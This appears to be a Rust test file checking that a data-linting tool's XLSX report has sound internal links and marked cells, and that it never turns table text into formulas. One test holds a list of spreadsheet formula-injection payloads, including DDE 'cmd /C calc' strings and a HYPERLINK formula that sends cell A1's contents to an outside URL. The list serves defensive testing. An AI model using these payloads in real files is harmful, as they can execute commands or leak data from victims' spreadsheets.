//! `--format xlsx`: another reader opens it, every link leads to a marked cell that says why, cells are where they are in the
//! file itself, and nothing is a formula.
#![allow(clippy::disallowed_methods, reason = "tests read and write files")]

use calamine::{Data, Reader, Xlsx};
use munilint_tests::archive::{attributes, parts};
use munilint_tests::hostile::{HOSTILE, hostile_tables};
use munilint_tests::{command, root};
use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::io::Cursor;
use std::path::Path;

const MUNILINT: &str = env!("CARGO_BIN_EXE_munilint-under-test");

/// Fills of cells that findings are about.
const FILLS: [&str; 3] = ["FFF8CBC4", "FFFFE8A3", "FFD5E6F7"];

fn written(folder: &Path, arguments: &[&str]) -> Vec<u8> {
    let output = command(MUNILINT)
        .current_dir(folder)
        .args(["check", "--format", "xlsx"])
        .args(arguments)
        .output()
        .expect("the command starts");
    assert!(matches!(output.status.code(), Some(0..=2)), "{arguments:?}");
    assert!(output.stdout.starts_with(b"PK"), "{}", String::from_utf8_lossy(&output.stderr));
    output.stdout
}

fn opened(bytes: &[u8]) -> Xlsx<Cursor<Vec<u8>>> {
    Xlsx::new(Cursor::new(bytes.to_vec())).unwrap_or_else(|error| panic!("{error}"))
}

/// A cell as the other reader sees it.
fn cell(book: &mut Xlsx<Cursor<Vec<u8>>>, sheet: &str, at: (u32, u32)) -> Data {
    let range = book.worksheet_range(sheet).unwrap_or_else(|error| panic!("{sheet}: {error}"));
    range.get_value(at).cloned().unwrap_or(Data::Empty)
}

/// For each sheet, by its name, the cells that are filled as findings fill them, and those that have a note.
fn marked(parts: &BTreeMap<String, String>) -> BTreeMap<String, [BTreeSet<String>; 2]> {
    let styles = &parts["xl/styles.xml"];
    let part =
        |start: &str, end: &str| styles.split(start).nth(1).and_then(|rest| rest.split(end).next()).unwrap_or("");
    let fills: Vec<bool> = part("<fills", "</fills>")
        .split("<fill>")
        .skip(1)
        .map(|fill| FILLS.iter().any(|colour| fill.contains(colour)))
        .collect();
    let is_mark: Vec<bool> = attributes(part("<cellXfs", "</cellXfs>"), "xf", "fillId")
        .into_iter()
        .map(|fill| fill.and_then(|fill| fill.parse::<usize>().ok()).is_some_and(|fill| fills[fill]))
        .collect();
    let names = attributes(&parts["xl/workbook.xml"], "sheet", "name");
    let sheet = |(at, name): (usize, Option<String>)| {
        let xml = &parts[&format!("xl/worksheets/sheet{}.xml", at + 1)];
        let styles =
            attributes(xml, "c", "s").into_iter().map(|style| style.and_then(|style| style.parse::<usize>().ok()));
        let cells = attributes(xml, "c", "r").into_iter().flatten().zip(styles);
        let filled =
            cells.filter(|(_, style)| style.is_some_and(|style| is_mark[style])).map(|(cell, _)| cell).collect();
        let relations = parts.get(&format!("xl/worksheets/_rels/sheet{}.xml.rels", at + 1));
        let comments = relations.and_then(|xml| {
            attributes(xml, "Relationship", "Target").into_iter().flatten().find(|target| target.contains("comments"))
        });
        let notes = comments.map(|target| &parts[&target.replace("..", "xl")]);
        let notes = notes.map(|xml| attributes(xml, "comment", "ref").into_iter().flatten().collect());
        (name.unwrap_or_default(), [filled, notes.unwrap_or_default()])
    };
    names.into_iter().enumerate().map(sheet).collect()
}

/// Every link leads somewhere, and those of findings to a marked cell with a note. Gives how many of the latter there are.
fn follow(bytes: &[u8]) -> usize {
    let parts = parts(bytes);
    let marked = marked(&parts);
    let mut followed = 0;
    for sheet in [1, 2] {
        let xml = &parts[&format!("xl/worksheets/sheet{sheet}.xml")];
        let shown = attributes(xml, "hyperlink", "display");
        assert!(shown.len() == attributes(xml, "hyperlink", "location").len());
        for location in attributes(xml, "hyperlink", "location").into_iter().flatten() {
            let (name, target) = location.rsplit_once('!').expect("a link names a sheet and a cell");
            let name = name.trim_matches('\'').replace("''", "'");
            let [filled, notes] = marked.get(&name).unwrap_or_else(|| panic!("no sheet {name}"));
            if sheet == 2 {
                assert!(filled.contains(target) && notes.contains(target), "{location} is not marked");
                followed += 1;
            }
        }
    }
    for (name, xml) in &parts {
        assert!(!xml.contains("<f>") && !xml.contains("<f "), "{name} has a formula");
        assert!(!xml.contains("TargetMode=\"External\""), "{name} leads out of the workbook");
    }
    followed
}

#[test]
fn every_link_leads_to_a_marked_cell() {
    for language in ["nb", "nn", "en"] {
        let bytes = written(&root(), &["examples", "tests/corpus", "tests/suites/csv-spectrum", "--lang", language]);
        let followed = follow(&bytes);
        assert!(followed > 100, "{followed}");
        let book = opened(&bytes);
        assert!(book.sheet_names().len() > 20, "{:?}", book.sheet_names());
    }
}

#[test]
fn the_same_data_gives_the_same_bytes() {
    let [one, other] = ["1", "3"].map(|threads| written(&root(), &["examples", "--threads", threads]));
    assert!(one == other);
}

#[test]
fn cells_stand_where_they_stand_in_the_file() {
    let folder = tempfile::tempdir().expect("a folder can be made");
    let table =
        "Uttrekk 2024\n\nkommunenummer;beløp;navn;merknad\n0301;12,5;Kari Nordmann;a\n\n301;1.234;Ola Nordmann; b\n";
    fs::write(folder.path().join("tabell.csv"), table).expect("the table can be written");
    let bytes = written(folder.path(), &[".", "--lang", "nb"]);
    assert!(follow(&bytes) > 0);
    let mut book = opened(&bytes);
    assert_eq!(book.sheet_names(), ["Sammendrag", "Funn", "tabell"]);
    for (at, expected) in [
        ((0, 0), Data::Empty),
        ((2, 0), Data::String("kommunenummer".to_owned())),
        ((3, 0), Data::String("0301".to_owned())),
        ((3, 1), Data::Float(12.5)),
        ((3, 2), Data::String("***".to_owned())),
        ((5, 0), Data::String("301".to_owned())),
        ((5, 1), Data::String("1.234".to_owned())),
    ] {
        assert_eq!(cell(&mut book, "tabell", at), expected, "{at:?}");
    }
}

/// What spreadsheets take for a formula when they read it in a file of text.
const FORMULAS: [&str; 14] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.no?x=\"&A1,\"se her\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "%0A-3+3+cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "http://example.no/a",
    "internal:'Ark'!A1",
    "_x003D_1+1",
];

#[test]
fn nothing_in_a_table_becomes_a_formula() {
    let folder = tempfile::tempdir().expect("a folder can be made");
    let texts: Vec<&str> = HOSTILE.iter().chain(&FORMULAS).copied().collect();
    hostile_tables(folder.path(), &texts);
    let rows: String = FORMULAS.iter().map(|text| format!("0301\t\"{}\"\n", text.replace('"', "\"\""))).collect();
    fs::write(folder.path().join("formler.tsv"), format!("kommunenummer\ttekst\n{rows}")).expect("it can be written");
    let bytes = written(folder.path(), &["."]);
    assert!(follow(&bytes) > texts.len());
    let mut book = opened(&bytes);
    for (row, text) in (1u32..).zip(FORMULAS) {
        assert_eq!(cell(&mut book, "formler", (row, 1)), Data::String(text.replace('\t', "\\t")), "{text}");
    }
}

#[test]
fn what_does_not_fit_is_said() {
    let folder = tempfile::tempdir().expect("a folder can be made");
    let row = "1;2;3;4;5;6;7;8;9;10\n";
    let large = format!("a;b;c;d;e;f;g;h;i;j\n{}", row.repeat(50_000));
    fs::write(folder.path().join("stor.csv"), large).expect("the table can be written");
    fs::write(folder.path().join("liten.csv"), "kommunenummer;x\n301;1\n0301;2\n").expect("the table can be written");
    let bytes = written(folder.path(), &[".", "--lang", "en"]);
    follow(&bytes);
    let mut book = opened(&bytes);
    assert_eq!(book.sheet_names(), ["Summary", "Findings", "liten"]);
    let summary = book.worksheet_range("Summary").expect("the summary is there");
    let why = "No: the workbook has room for copies of 500,000 cells in all";
    assert!(summary.used_cells().any(|(_, _, cell)| *cell == Data::String(why.to_owned())));
}
